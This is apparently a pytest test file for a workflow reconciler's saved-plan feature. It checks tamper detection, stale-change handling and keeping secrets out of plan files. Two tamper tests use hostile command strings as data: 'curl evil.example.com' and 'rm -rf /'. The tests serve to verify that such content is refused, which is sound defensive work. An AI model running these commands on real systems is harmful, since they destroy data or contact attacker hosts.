"""Saved plans: exactly what was saved is done, or refused; no secret in the file; nothing stale is done."""

from __future__ import annotations

import json
import stat
from typing import TYPE_CHECKING, Any

import pytest
from flow_helpers import TENANTS, Ended, Git, body, rich, run, step

from reconciler.planfile.plan_file import _digest
from reconciler.planfile.records import same_action
from reconciler.schema import is_valid
from reconciler.workflow import owner_tag

if TYPE_CHECKING:
    from collections.abc import Callable
    from pathlib import Path

_SECRET = "canary-1f4b-value"


@pytest.fixture
def file(tmp_path: Path) -> Path:
    """Return where the plan is saved."""
    return tmp_path / "plan.json"


def _save(git: Git, file: Path, *words: str, code: int = 0, **env: str) -> dict[str, Any]:
    done = run(git, "plan", "--save-plan", str(file), *words, **env)
    assert done.returncode == code, done.stderr
    saved: dict[str, Any] = json.loads(file.read_text(encoding="utf-8"))
    return saved


def _apply(git: Git, file: Path, *words: str, **env: str) -> Any:
    done = run(git, "apply", "--plan", str(file), "--format", "json", *words, **env)
    assert "Traceback" not in done.stderr
    return done


def _statuses(done: Any) -> dict[str, str]:
    return {result["name"]: result["status"] for result in json.loads(done.stdout)["results"]}


def _seal(file: Path, saved: dict[str, Any]) -> None:
    """Write a plan file with the digest that fits it."""
    said = {key: value for key, value in saved.items() if key != "digest"}
    file.write_text(json.dumps({**said, "digest": _digest(said)}), encoding="utf-8")


def test_a_saved_plan_is_done(git: Git, file: Path) -> None:
    """A plan file is applied as it is, without a question, and is valid by its published schema."""
    git.write(body("a"), "a.yaml")
    git.write(body("b", triggers=[{"webhook": True}]), "b.yaml")
    saved = _save(git, file)
    assert is_valid(saved, "plan")
    assert [(change["action"], change["name"]) for change in saved["changes"]] == [
        ("create", "a"),
        ("create", "b"),
    ]
    assert stat.S_IMODE(file.stat().st_mode) == 0o600
    done = _apply(git, file)
    assert (done.returncode, _statuses(done)) == (0, {"a": "done", "b": "done"})
    git.is_clean()


def test_a_plan_too_large_to_be_read_again_is_not_saved(
    git: Git, file: Path, typed: Callable[..., Ended], monkeypatch: pytest.MonkeyPatch
) -> None:
    """The plan is shown; nothing is left of its file, nor lost of the one before."""
    file.write_text("before", encoding="utf-8")
    git.write(body("a"))
    monkeypatch.setattr("reconciler.planfile.plan_file.PLAN_FILE_BYTES", 700)
    planned = typed("plan", git.folder, "--save-plan", file)
    assert planned.code == 1
    assert "+ create   a" in planned.out
    assert "larger than the 700 bytes that can be read again" in planned.err
    assert "--target or --shard" in planned.err
    assert file.read_text(encoding="utf-8") == "before"
    assert [found.name for found in file.parent.glob("*plan.json*")] == ["plan.json"]


def test_a_platform_that_shuffles_what_it_returns(git: Git, file: Path) -> None:
    """An update sends back what a platform returned; in another order, the saved plan is still valid."""
    git.server.profile = TENANTS["all+token-omitted"]
    for number in range(6):
        name = f"flow-{number}"
        git.server.store.create(rich(name))
        git.write(rich(name, metadata={"allowConcurrentExecution": False}), f"{name}.yaml")
    _save(git, file, "--resend-secrets")
    done = _apply(git, file)
    assert (done.returncode, set(_statuses(done).values())) == (0, {"done"}), done.stderr


def test_only_what_was_saved_is_done(git: Git, file: Path) -> None:
    """What differs since is not in the plan and is left alone; it is counted."""
    git.write(body("a"), "a.yaml")
    git.write(body("b"), "b.yaml")
    git.done()
    git.write(body("a", "echo 2"), "a.yaml")
    _save(git, file)
    git.server.store.replace(git.live("b"), body("b", "echo drift"))
    done = _apply(git, file)
    assert (done.returncode, _statuses(done)) == (0, {"a": "done"})
    assert "1 further differences" in done.stderr
    assert git.stored("b")["steps"]["one"]["command"] == "echo drift"


def _three(git: Git, file: Path, *words: str) -> dict[str, Any]:
    for name in ("a", "b", "c"):
        git.write(body(name), f"{name}.yaml")
    git.done()
    for name in ("a", "b"):
        git.write(body(name, "echo 2"), f"{name}.yaml")
    git.write(body("new"), "new.yaml")
    return _save(git, file, *words)


_STALE: dict[str, tuple[Callable[[Git], object], str]] = {
    "edited": (
        lambda git: git.server.store.replace(git.live("b"), body("b", "echo theirs")),
        "changed after the plan was made",
    ),
    "deleted": (lambda git: git.server.store.delete(git.live("b")), "changed after the plan was made"),
    "paused": (lambda git: git.client.pause_workflow(git.live("b")), "changed after the plan was made"),
    "owned": (
        lambda git: git.server.store.replace(git.live("b"), body("b", tags=[{"name": owner_tag("x")}])),
        "owned by x",
    ),
    "twin": (lambda git: git.server.store.create(body("b")), "2 live workflows have this name"),
}


@pytest.mark.parametrize("what", _STALE)
def test_what_is_stale_is_left_out(git: Git, file: Path, what: str) -> None:
    """A workflow that changed since is left out and named, the others go on; --strict refuses the whole."""
    change, reason = _STALE[what]
    _three(git, file)
    change(git)
    before = len(git.writes())
    refused = _apply(git, file, "--strict")
    assert (refused.returncode, refused.stdout, len(git.writes())) == (4, "", before)
    assert "1 of 3 changes" in refused.stderr
    done = _apply(git, file)
    assert done.returncode == 4
    assert _statuses(done) == {"a": "done", "new": "done"}
    assert "left out: b: update: " in done.stderr
    assert reason in done.stderr


def test_what_is_done_already_is_no_failure(git: Git, file: Path) -> None:
    """A saved plan that is applied twice does nothing the second time, and that is fine."""
    _three(git, file)
    assert _apply(git, file).returncode == 0
    again = _apply(git, file)
    assert (again.returncode, _statuses(again)) == (0, {})
    assert again.stderr.count("already in sync") == 3


def test_a_create_that_somebody_made(git: Git, file: Path) -> None:
    """A workflow that appeared since under the name of a create is not overwritten."""
    _three(git, file)
    git.server.store.create(body("new", "echo theirs"))
    done = _apply(git, file)
    assert (done.returncode, _statuses(done)) == (4, {"a": "done", "b": "done"})
    assert git.stored("new")["steps"]["one"]["command"] == "echo theirs"


def test_other_manifests_are_refused(git: Git, file: Path) -> None:
    """When Git says something else by now, nothing is touched; a comment is nothing else."""
    _three(git, file)
    kept = (git.folder / "a.yaml").read_text(encoding="utf-8")
    git.write(f"# a comment\n{kept}", "a.yaml")
    assert _apply(git, file, "--strict").returncode == 0
    _three(git, file)
    git.write(body("a", "echo 3"), "a.yaml")
    before = len(git.writes())
    done = _apply(git, file)
    assert (done.returncode, len(git.writes())) == (4, before)
    assert "the manifests have changed since" in done.stderr


@pytest.mark.parametrize(
    ("change", "words"),
    [
        ({"tenant": "https://other.example.com"}, "another tenant"),
        ({"stage": "dev"}, "another stage"),
        ({"format_version": 2}, "has format 2; this version reads format 1"),
    ],
)
def test_a_plan_for_something_else(git: Git, file: Path, change: dict[str, Any], words: str) -> None:
    """A plan for another tenant or stage, or of another format, is refused and touches nothing."""
    saved = _three(git, file)
    _seal(file, {**saved, **change})
    before = len(git.writes())
    done = _apply(git, file)
    assert (done.returncode, len(git.writes())) == (4, before)
    assert words in done.stderr


def test_another_owner_is_refused(git: Git, file: Path) -> None:
    """A plan that was made for one owner is not applied for another."""
    _three(git, file, "--ownership-tag", "team-a")
    assert "another ownership tag" in _apply(git, file).stderr
    assert _apply(git, file, "--ownership-tag", "team-a").returncode == 0


def test_an_edited_plan_is_refused(git: Git, file: Path) -> None:
    """Any edit of the file is found out; one that has a new digest can do nothing that Git does not say."""
    saved = _three(git, file)
    file.write_text(json.dumps({**saved, "options": {**saved["options"], "prune": True}}), encoding="utf-8")
    done = _apply(git, file)
    assert done.returncode == 4
    assert "was changed after it was written" in done.stderr
    saved["changes"][0]["body"]["steps"]["one"]["command"] = "curl evil.example.com"
    _seal(file, saved)
    done = _apply(git, file)
    assert done.returncode == 4
    assert "evil" not in json.dumps([git.stored(name) for name in ("a", "b", "new")])


@pytest.mark.parametrize(
    "text",
    ["", "{", "[]", "null", '{"format_version": 1}', "\udcff", "[" * 100_000, '{"format_version": 1e999}'],
    ids=range(8),
)
def test_what_is_no_plan_file(git: Git, file: Path, text: str) -> None:
    """Anything else than a plan file is refused in one line, before anything is sent."""
    git.write(body())
    file.write_bytes(text.encode("utf-8", "surrogateescape"))
    done = _apply(git, file)
    assert done.returncode in {3, 4}
    assert git.writes() == []
    missing = _apply(git, file.with_name("missing.json"))
    assert (missing.returncode, "cannot be read" in missing.stderr) == (3, True)


def test_options_with_a_saved_plan(git: Git, file: Path) -> None:
    """What a plan is about is said when it is made; --strict is for saved plans."""
    git.write(body())
    _save(git, file)
    assert _apply(git, file, "--prune").returncode == 64
    assert _apply(git, file, "--target", "x").returncode == 64
    assert run(git, "apply", "--strict").returncode == 64


def test_no_secret_is_in_the_file(git: Git, file: Path) -> None:
    """Each secret is a reference to its variable, its place in the manifest, or the live field."""
    steps = {
        "one": step(
            repository={"url": "https://github.com/a/b", "branch": "m", "token": "literal-credential"},
            parameters={"env": {"KEY": "@KEY@", "URL": f"https://x?key={_SECRET}"}},
        )
    }
    text = json.dumps({"body": {"name": "flow", "steps": steps}}).replace('"@KEY@"', "!env THE_KEY")
    git.write(text)
    git.env["THE_KEY"] = _SECRET
    saved = _save(git, file)
    raw = file.read_text(encoding="utf-8")
    assert _SECRET not in raw
    assert "literal-credential" not in raw
    sent = saved["changes"][0]["body"]["steps"]["one"]
    place = {"file": str(git.folder / "flow.yaml"), "line": 1}
    assert sent["parameters"]["env"]["KEY"] == {"$secret": {**place, "variable": "THE_KEY"}}
    assert sent["parameters"]["env"]["URL"] == {"$secret": place}
    assert sent["repository"]["token"] == {"$secret": place}
    assert _apply(git, file).returncode == 0
    assert git.stored()["steps"]["one"]["parameters"]["env"]["KEY"] == _SECRET
    git.write({"patch": {"name": "flow", "body": {"steps": {"one": {"command": "echo 2"}}}}})
    saved = _save(git, file)
    sent = saved["changes"][0]["body"]["steps"]["one"]
    assert sent["repository"]["token"] == {"$secret": {"live": "steps.one.repository.token"}}
    assert _apply(git, file).returncode == 0


def test_a_saved_plan_prunes(git: Git, file: Path) -> None:
    """Deletes are saved with the options that allow them, and are left out when an earlier part is stale."""
    owner = ("--ownership-tag", "team-a")
    names = [f"w{number}" for number in range(8)]
    for name in names:
        git.write(body(name), f"{name}.yaml")
    git.owned_by("team-a")
    git.done()
    git.remove("w7.yaml")
    git.write(body("w0", "echo 2"), "w0.yaml")
    saved = _save(git, file, "--prune", *owner)
    assert [change["action"] for change in saved["changes"]] == ["delete", "update"]
    git.server.store.replace(git.live("w0"), {**git.stored("w0"), "watchers": []})
    git.client.pause_workflow(git.live("w0"))
    done = _apply(git, file, *owner)
    assert (done.returncode, _statuses(done)) == (4, {})
    assert "left out: w7: delete: deletes come last" in done.stderr
    _save(git, file, "--prune", *owner)
    done = _apply(git, file, *owner)
    assert (done.returncode, _statuses(done)) == (0, {"w7": "done", "w0": "done"})


@pytest.mark.parametrize("strict", [(), ("--strict",)])
def test_a_delete_of_what_is_gone_is_done(git: Git, file: Path, strict: tuple[str, ...]) -> None:
    """A saved delete whose workflow somebody deleted is done; one whose workflow was changed is not."""
    owner = ("--ownership-tag", "team-a")
    for number in range(9):
        git.write(body(f"w{number}"), f"w{number}.yaml")
    git.owned_by("team-a")
    git.done()
    git.remove("w7.yaml")
    git.remove("w8.yaml")
    _save(git, file, "--prune", *owner)
    git.server.store.delete(git.live("w7"))
    done = _apply(git, file, *owner, *strict)
    assert (done.returncode, _statuses(done)) == (0, {"w8": "done"})
    assert "left out: w7: delete: already deleted" in done.stderr
    git.write(body("w8"), "w8.yaml")
    git.done()
    git.remove("w8.yaml")
    _save(git, file, "--prune", *owner)
    git.server.store.replace(git.live("w8"), body("w8", "echo theirs"))
    done = _apply(git, file, *owner, *strict)
    assert (done.returncode, "already deleted" in done.stderr) == (4, False)


_RECORD: dict[str, Any] = {
    "name": "flow",
    "action": "update",
    "id": 1,
    "method": "patch",
    "fingerprint": "a",
    "paused": None,
    "body": {
        **body(),
        "tags": [{"name": "red"}, {"name": "blue"}],
        "triggers": [{"cron": "0 0 6 * * ? *"}, {"webhook": True, "webhookPolicy": "preserve"}],
    },
}


@pytest.mark.parametrize(
    "changed",
    [
        {"name": "other"},
        {"action": "rename"},
        {"id": 2},
        {"method": "create_or_update"},
        {"fingerprint": "b"},
        {"paused": True},
        {"body": {**_RECORD["body"], "steps": {"one": step("rm -rf /")}}},
        {"body": {**_RECORD["body"], "tags": [{"name": "red"}]}},
        {"body": {**_RECORD["body"], "tags": [*_RECORD["body"]["tags"], {"name": owner_tag("other")}]}},
        {"body": {**_RECORD["body"], "triggers": [_RECORD["body"]["triggers"][0], {"webhook": True}]}},
    ],
)
def test_what_makes_it_another_action(changed: dict[str, Any]) -> None:
    """Whatever would be done otherwise, or to something else, makes a saved action another one."""
    assert not same_action(_RECORD, {**_RECORD, **changed})


def test_what_makes_it_no_other_action() -> None:
    """The order in which a platform returns lists, and what is only shown, do not."""
    parts = _RECORD["body"]
    other = {**parts, "tags": parts["tags"][::-1], "triggers": parts["triggers"][::-1]}
    digested = {**other, "tags": [*other["tags"], {"name": "reconciler-sent-abc"}]}
    assert same_action(_RECORD, {**_RECORD, "body": other, "warnings": ["said otherwise"]})
    assert same_action(_RECORD, {**_RECORD, "body": digested})


def test_a_plan_that_is_refused_is_not_saved(git: Git, file: Path) -> None:
    """A plan that changes too much is no file: there is nothing that could be approved."""
    git.write(body("a"), "a.yaml")
    git.done()
    git.write(body("a", "echo 2"), "a.yaml")
    done = run(git, "plan", "--save-plan", str(file), "--max-change-ratio", "0.5")
    assert (done.returncode, file.exists()) == (4, False)


def test_a_file_that_cannot_be_written(git: Git, tmp_path: Path) -> None:
    """A plan that cannot be saved is a failure that names the file."""
    git.write(body())
    done = run(git, "plan", "--save-plan", str(tmp_path / "missing" / "plan.json"))
    assert (done.returncode, "plan.json cannot be written" in done.stderr) == (1, True)
